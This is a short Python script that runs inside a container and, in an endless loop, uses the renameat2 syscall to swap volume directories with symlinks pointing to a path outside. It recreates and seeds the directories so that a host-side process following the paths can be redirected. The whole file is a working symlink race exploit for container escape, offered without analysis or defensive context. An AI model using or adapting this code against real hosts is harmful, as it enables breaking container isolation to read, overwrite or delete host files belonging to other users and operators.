"""A container's program that keeps exchanging a directory of its volume with a link that leads elsewhere.

Arguments: where the links lead, then the directories. Directories that were deleted are made again.
"""
import ctypes, os, sys

libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE, AT_FDCWD, SYS_RENAMEAT2 = 2, -100, 316 if os.uname().machine == "x86_64" else 276
outside, paths = sys.argv[1], sys.argv[2:]
names = os.listdir(outside)


def lay_out(path):
    link = f"{path}.link"
    for wanted, make in ((path, os.mkdir), (link, lambda place: os.symlink(outside, place))):
        try:
            make(wanted)
        except OSError:
            pass
    for place in (path, link):
        if os.path.islink(place):
            continue
        for name in names[:5]:
            try:
                open(f"{place}/{name}", "x").close()
            except OSError:
                pass


while True:
    for path in paths:
        lay_out(path)
        one, other = path.encode(), f"{path}.link".encode()
        for _ in range(200):
            libc.syscall(SYS_RENAMEAT2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
